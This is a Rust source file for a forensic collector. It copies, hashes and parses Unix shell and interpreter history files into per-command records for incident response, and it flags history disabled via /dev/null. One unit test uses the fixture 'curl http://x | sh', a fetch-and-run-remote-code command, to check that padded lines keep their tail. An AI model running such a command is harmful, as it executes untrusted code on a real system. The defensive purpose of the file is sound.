//! `shell_history`: the commands users typed, from shell and interpreter history files.
//!
//! Where: in every home on a Unix system (root and each `/etc/passwd` account, plus homes
//! under `/home` that passwd no longer lists): bash `~/.bash_history`, zsh `~/.zsh_history`,
//! `~/.zhistory`, `~/.histfile`, fish `~/.local/share/fish/*_history`, sh/ksh/ash/mksh
//! `~/.{sh,ksh,ash,mksh}_history`, Python `~/.python_history`, PowerShell on Unix
//! `~/.local/share/powershell/PSReadLine/*_history.txt`. On Windows evidence nothing: the
//! PSReadLine history there belongs to `powershell_logs`.
//!
//! What we record: one record per command (user, shell, file, archive member, the file's
//! SHA-256, ordinal, line, command, timestamp and duration where the format has them). Every
//! history file is copied raw (up to `max_file_size`; hashed whole) and read once: the bytes
//! the sink keeps are the bytes we parse. `--since` drops commands with an older timestamp;
//! commands without one are kept. A history file that is a link to `/dev/null` (history
//! disabled, ATT&CK T1562.003) is reported as a warning.
//!
//! Reference: ATT&CK T1059.004 / T1552.003; the formats are described in
//! `parsers::shell_history`.

use super::{CollectError, Collector, Context};
use crate::parsers::shell_history::{
    DEFAULT_MAX_COMMANDS, HistoryEntry, HistoryKind, kind_from_file_name, parse_history_each,
};
use crate::record::{HistoryRecord, HistoryShell, Record, Sha256};
use crate::sink::{FileRequest, Sink};
use crate::source::{FileSource, FileType, OsFamily, SourceError, UserAccount};
use crate::units::ByteSize;
use serde::Deserialize;
use std::collections::{HashMap, HashSet};
use std::path::{Path, PathBuf};

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ShellHistoryOptions {
    /// History files are copied up to this size (the newest bytes of a larger one); the whole
    /// file is still hashed.
    pub max_file_size: ByteSize,
    /// Commands are parsed from at most this many of a file's newest bytes: what matters in a
    /// padded hostile history is its end, and memory stays bounded.
    pub max_parse_size: ByteSize,
    /// More files to look for in every home, relative to it (`.config/xonsh/history`). The
    /// format is guessed from the name; unknown names are read as one command per line.
    pub extra_files: Vec<String>,
    /// Records for at most this many commands per file: the newest are kept, the count of
    /// older ones is a warning (the raw copy still holds them).
    pub max_commands_per_file: std::num::NonZeroUsize,
}

impl Default for ShellHistoryOptions {
    fn default() -> Self {
        ShellHistoryOptions {
            max_file_size: ByteSize(64 << 20),
            max_parse_size: ByteSize(8 << 20),
            extra_files: Vec::new(),
            max_commands_per_file: DEFAULT_MAX_COMMANDS,
        }
    }
}

/// Fixed history locations, relative to a home.
const HISTORY_FILES: &[&str] = &[
    ".bash_history",
    ".zsh_history",
    ".zhistory",
    ".histfile",
    ".sh_history",
    ".ksh_history",
    ".ash_history",
    ".mksh_history",
    ".python_history",
];

/// Directories whose every `*_history` file is a history: fish keeps one per session name
/// (`fish_history` by default), PSReadLine one per host (`ConsoleHost_history.txt`,
/// `Visual Studio Code Host_history.txt`).
const HISTORY_DIRS: &[&str] = &[".local/share/fish", ".local/share/powershell/PSReadLine"];

/// Longest command kept whole in a record; a longer one keeps its head and tail.
const MAX_COMMAND_BYTES: usize = 64 << 10;

/// A command over [`MAX_COMMAND_BYTES`]: its first and last 32 KiB around a marker, so what
/// runs at either end of a padded line stays visible to detection.
fn shorten(command: String) -> String {
    if command.len() <= MAX_COMMAND_BYTES {
        return command;
    }
    let half = MAX_COMMAND_BYTES / 2;
    let mut head = half;
    while !command.is_char_boundary(head) {
        head -= 1;
    }
    let mut tail = command.len() - half;
    while !command.is_char_boundary(tail) {
        tail += 1;
    }
    format!(
        "{} … [{} bytes not kept] … {}",
        &command[..head],
        tail - head,
        &command[tail..]
    )
}

/// Parser warnings reported per file before they are summarised.
const MAX_WARNINGS_PER_FILE: usize = 10;

pub struct ShellHistory {
    opts: ShellHistoryOptions,
}

impl ShellHistory {
    pub fn new(opts: ShellHistoryOptions) -> ShellHistory {
        ShellHistory { opts }
    }
}

fn shell_of(kind: HistoryKind) -> HistoryShell {
    match kind {
        HistoryKind::Bash => HistoryShell::Bash,
        HistoryKind::Zsh => HistoryShell::Zsh,
        HistoryKind::Fish => HistoryShell::Fish,
        HistoryKind::Sh => HistoryShell::Sh,
        HistoryKind::Python => HistoryShell::Python,
        HistoryKind::PsReadLine => HistoryShell::Powershell,
    }
}

/// Accounts grouped by home: a home shared by several accounts (`/` for daemons, a shared
/// service home) is read once, under the first account listed.
fn homes(source: &dyn FileSource) -> Vec<(PathBuf, Vec<UserAccount>)> {
    let mut users = source.users();
    // Without /etc/passwd (a partial image) root's home is still worth a look.
    if !users.iter().any(|u| u.home == Path::new("/root"))
        && source
            .metadata(Path::new("/root"))
            .is_ok_and(|m| m.file_type == FileType::Directory)
    {
        users.push(UserAccount {
            name: "root".into(),
            uid: Some(0),
            sid: None,
            home: PathBuf::from("/root"),
            origin: "/root".into(),
        });
    }
    let mut out: Vec<(PathBuf, Vec<UserAccount>)> = Vec::new();
    let mut index: HashMap<PathBuf, usize> = HashMap::new();
    for u in users {
        match index.get(&u.home) {
            Some(&i) => out[i].1.push(u),
            None => {
                index.insert(u.home.clone(), out.len());
                out.push((u.home.clone(), vec![u]));
            }
        }
    }
    out
}

/// The history files that exist in one home, with their formats.
fn candidates(
    source: &dyn FileSource,
    home: &Path,
    extra: &[String],
    out: &mut dyn Sink,
) -> Vec<(PathBuf, HistoryKind)> {
    let mut files: Vec<(PathBuf, HistoryKind)> = Vec::new();
    for rel in HISTORY_FILES {
        if let Some(kind) = kind_from_file_name(rel) {
            files.push((home.join(rel), kind));
        }
    }
    for rel in extra {
        let rel = rel.trim_start_matches('/');
        let path = home.join(rel);
        let kind = kind_from_file_name(&path.to_string_lossy()).unwrap_or(HistoryKind::Sh);
        files.push((path, kind));
    }
    for rel in HISTORY_DIRS {
        let dir = home.join(rel);
        match source.read_dir(&dir) {
            Ok(mut entries) => {
                entries.sort_by(|a, b| a.name.cmp(&b.name));
                for e in entries {
                    let is_file = e.meta.as_ref().is_ok_and(|m| {
                        matches!(m.file_type, FileType::Regular | FileType::Symlink)
                    });
                    // The path decides (fish's `NAME_history` only counts inside a fish dir).
                    let kind = kind_from_file_name(&e.path.to_string_lossy());
                    if let (true, Some(kind)) = (is_file, kind) {
                        files.push((e.path, kind));
                    }
                }
            }
            Err(e) if e.is_not_found() => {}
            Err(e) => out.error(format!("{}: {e}", source.display_path(&dir))),
        }
    }
    let mut seen = HashSet::new();
    files.retain(|(p, _)| seen.insert(p.clone()));
    files
}

struct Account<'a> {
    name: &'a str,
    uid: Option<u32>,
    shared_with: Vec<String>,
}

impl Collector for ShellHistory {
    fn collect(&self, ctx: &Context, out: &mut dyn Sink) -> Result<(), CollectError> {
        let source = ctx.fs;
        if source.os() == OsFamily::Windows {
            out.warn(
                "Windows evidence: no Unix shell histories; PSReadLine history is collected by \
                 powershell_logs"
                    .into(),
            );
            return Ok(());
        }
        // Files already read, by identity: two homes can be one directory through a link.
        let mut read: HashMap<(u64, u64), String> = HashMap::new();
        for (home, accounts) in homes(source) {
            let Some(first) = accounts.first() else {
                continue;
            };
            let account = Account {
                name: &first.name,
                uid: first.uid,
                shared_with: accounts.iter().skip(1).map(|a| a.name.clone()).collect(),
            };
            for (path, kind) in candidates(source, &home, &self.opts.extra_files, out) {
                if ctx.cancel.should_stop().is_some() {
                    return Ok(());
                }
                self.one_file(ctx, out, &account, &path, kind, &mut read)?;
            }
        }
        Ok(())
    }
}

impl ShellHistory {
    fn one_file(
        &self,
        ctx: &Context,
        out: &mut dyn Sink,
        account: &Account,
        path: &Path,
        kind: HistoryKind,
        read: &mut HashMap<(u64, u64), String>,
    ) -> Result<(), CollectError> {
        let source = ctx.fs;
        let display = source.display_path(path);
        let lstat = match source.metadata(path) {
            Ok(m) => m,
            Err(e) if e.is_not_found() => return Ok(()),
            Err(e) => {
                out.error(format!("{display}: {e}"));
                return Ok(());
            }
        };
        if lstat.file_type == FileType::Directory {
            return Ok(());
        }
        let mut opened = match source.open(path) {
            Ok(f) => f,
            Err(SourceError::NotRegular { file_type, .. }) => {
                let why = if matches!(file_type, FileType::CharDevice) {
                    " (a history linked to a device such as /dev/null discards every \
                     command: history was disabled, ATT&CK T1562.003)"
                } else {
                    ""
                };
                out.warn(format!(
                    "{display}: a {file_type:?}, not a regular file; not read{why}"
                ));
                return Ok(());
            }
            Err(e) if e.is_not_found() => {
                // lstat found it: a dangling symlink, or deleted in between.
                out.warn(format!(
                    "{display}: {e} (dangling link or deleted meanwhile)"
                ));
                return Ok(());
            }
            Err(e @ SourceError::SymlinkOutOfScope { .. }) => {
                out.warn(e.to_string());
                return Ok(());
            }
            Err(e) => {
                out.error(format!("{display}: {e}"));
                return Ok(());
            }
        };
        if let (Some(d), Some(i)) = (opened.meta.dev, opened.meta.inode) {
            if let Some(first) = read.get(&(d, i)) {
                out.warn(format!("{display}: same file as {first}; read once"));
                return Ok(());
            }
            read.insert((d, i), display.clone());
        }
        let cap = self.opts.max_file_size.0;
        let parse = self.opts.max_parse_size.0.min(cap);
        // The newest bytes are kept for parsing, and copied when the file is over its cap.
        let req = FileRequest {
            display: display.clone(),
            logical: path,
            meta: &opened.meta,
            copy: true,
            copy_cap: cap,
            keep: usize::try_from(parse).unwrap_or(usize::MAX),
            member_name: None,
            keep_tail: true,
        };
        let outcome = out.file_seekable(&req, &mut *opened.file)?;
        // A window that starts mid-line parses from the next line.
        let (text, lines_before) = match outcome.kept_from {
            0 => (&outcome.kept[..], 0),
            _ => match outcome.kept.iter().position(|&b| b == b'\n') {
                Some(i) => (&outcome.kept[i + 1..], outcome.kept_lines_before + 1),
                None => (&outcome.kept[..], outcome.kept_lines_before),
            },
        };
        if outcome.kept_from > 0 && outcome.read_error.is_none() {
            out.cut(format!(
                "{display}: {} bytes, larger than max_parse_size; commands parsed from the \
                 newest {} bytes (from line {})",
                outcome.bytes_read,
                text.len(),
                lines_before + 1
            ));
        }
        // Each command becomes a record as it is parsed (the newest `max_commands_per_file`,
        // counted in a first pass): a history of millions of commands costs one of them.
        let file = FileFacts {
            account,
            display: &display,
            kind,
            member: outcome.member.clone(),
            sha256: outcome.sha256,
        };
        let mut failed: Option<crate::sink::SinkError> = None;
        let parsed = {
            let mut on_command = |mut e: HistoryEntry| {
                if failed.is_some() {
                    return;
                }
                e.line_number = e.line_number.saturating_add(lines_before as usize);
                if let (Some(since), Some(ts)) = (ctx.since, e.timestamp)
                    && ts < since
                {
                    return;
                }
                if let Err(err) = out.record(Record::History(file.record(e))) {
                    failed = Some(err);
                }
            };
            parse_history_each(kind, text, self.opts.max_commands_per_file, &mut on_command)
        };
        if let Some(e) = failed {
            return Err(e.into());
        }
        // A budget that cuts records makes the collector partial, with the count: the
        // archived copy holds the commands, the records do not.
        if parsed.commands_dropped > 0 {
            out.cut(format!(
                "{display}: {} commands; records for the newest {} only, {} left out \
                 (max_commands_per_file); the archived copy holds them",
                parsed.commands_total,
                parsed.commands_total - parsed.commands_dropped,
                parsed.commands_dropped
            ));
        }
        let total_warnings = parsed.warnings.len() + parsed.warnings_suppressed;
        for w in parsed.warnings.iter().take(MAX_WARNINGS_PER_FILE) {
            out.warn(format!("{display}: {w}"));
        }
        if total_warnings > MAX_WARNINGS_PER_FILE {
            out.warn(format!(
                "{display}: {} more parser warnings not shown",
                total_warnings - MAX_WARNINGS_PER_FILE
            ));
        }
        Ok(())
    }
}

/// What every record of one history file shares.
struct FileFacts<'a> {
    account: &'a Account<'a>,
    display: &'a str,
    kind: HistoryKind,
    member: Option<String>,
    sha256: Option<Sha256>,
}

impl FileFacts<'_> {
    fn record(&self, e: HistoryEntry) -> HistoryRecord {
        HistoryRecord {
            user: self.account.name.to_string(),
            uid: self.account.uid,
            home_shared_with: self.account.shared_with.clone(),
            shell: shell_of(self.kind),
            file: self.display.to_string(),
            archive_member: self.member.clone(),
            file_sha256: self.sha256,
            ordinal: e.ordinal as u64,
            line_number: e.line_number as u64,
            command_bytes: (e.command.len() > MAX_COMMAND_BYTES).then_some(e.command.len() as u64),
            command: shorten(e.command),
            timestamp: e.timestamp,
            duration_secs: e.duration_secs,
            paths: e.paths,
            lossy_utf8: e.lossy_utf8,
        }
    }
}

#[cfg(all(test, unix))]
#[allow(clippy::disallowed_methods)]
mod tests {
    use super::*;
    use crate::collectors::{Cancel, Shared};
    use crate::sink::MemorySink;
    use crate::source::RootSource;

    fn run(root: &Path, since: Option<crate::record::Timestamp>) -> MemorySink {
        let src = RootSource::new(root.to_path_buf(), None).unwrap();
        let cancel = Cancel::default();
        let shared = Shared::default();
        let ctx = Context {
            since,
            ..Context::new(&src, &cancel, &shared)
        };
        let mut sink = MemorySink::default();
        ShellHistory::new(ShellHistoryOptions::default())
            .collect(&ctx, &mut sink)
            .unwrap();
        sink
    }

    fn history(sink: &MemorySink) -> Vec<&HistoryRecord> {
        sink.records
            .iter()
            .filter_map(|r| match r {
                Record::History(h) => Some(h),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn long_commands_keep_both_ends_on_char_boundaries() {
        let c = format!("{}{}curl http://x | sh", "é".repeat(40_000), " ".repeat(10));
        let s = shorten(c.clone());
        assert!(s.len() < c.len());
        assert!(s.starts_with("éé") && s.ends_with("curl http://x | sh"));
        assert_eq!(shorten("ls".into()), "ls");
    }

    #[test]
    fn shared_homes_are_read_once_and_since_filters_timestamps() {
        let d = tempfile::tempdir().unwrap();
        let r = d.path();
        std::fs::create_dir_all(r.join("etc")).unwrap();
        std::fs::create_dir_all(r.join("srv/svc")).unwrap();
        std::fs::write(
            r.join("etc/passwd"),
            "a:x:1001:1001::/srv/svc:/bin/bash\nb:x:1002:1002::/srv/svc/:/bin/bash\n",
        )
        .unwrap();
        std::fs::write(
            r.join("srv/svc/.bash_history"),
            "#1000000000\nold\n#2000000000\nnew\nno-ts? no: joined\n",
        )
        .unwrap();
        let sink = run(r, None);
        let h = history(&sink);
        assert_eq!(h.len(), 2, "{h:?}");
        assert_eq!(h[0].user, "a");
        assert_eq!(h[0].home_shared_with, ["b"]);
        assert_eq!(h[1].command, "new\nno-ts? no: joined");
        assert_eq!(sink.files.len(), 1);
        let since = chrono::DateTime::from_timestamp(1_500_000_000, 0);
        let sink = run(r, since);
        let h = history(&sink);
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].ordinal, 2);
    }

    #[test]
    fn devnull_history_is_a_warning_and_windows_is_nothing() {
        let d = tempfile::tempdir().unwrap();
        let r = d.path();
        std::fs::create_dir_all(r.join("etc")).unwrap();
        std::fs::create_dir_all(r.join("root")).unwrap();
        // A FIFO stands in for /dev/null: both are special files the Source refuses to open.
        let fifo = r.join("root/.bash_history");
        let st = std::process::Command::new("mkfifo").arg(&fifo).status();
        if !st.is_ok_and(|s| s.success()) {
            return;
        }
        let sink = run(r, None);
        assert!(history(&sink).is_empty());
        assert!(sink.errors.is_empty(), "{:?}", sink.errors);
        assert!(
            sink.warnings.iter().any(|w| w.contains("Fifo")),
            "{:?}",
            sink.warnings
        );

        let w = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(w.path().join("Windows/System32")).unwrap();
        std::fs::create_dir_all(w.path().join("Users/al")).unwrap();
        std::fs::write(w.path().join("Users/al/.bash_history"), "x\n").unwrap();
        let sink = run(w.path(), None);
        assert!(sink.records.is_empty());
        assert!(sink.warnings[0].contains("powershell_logs"));
    }
}
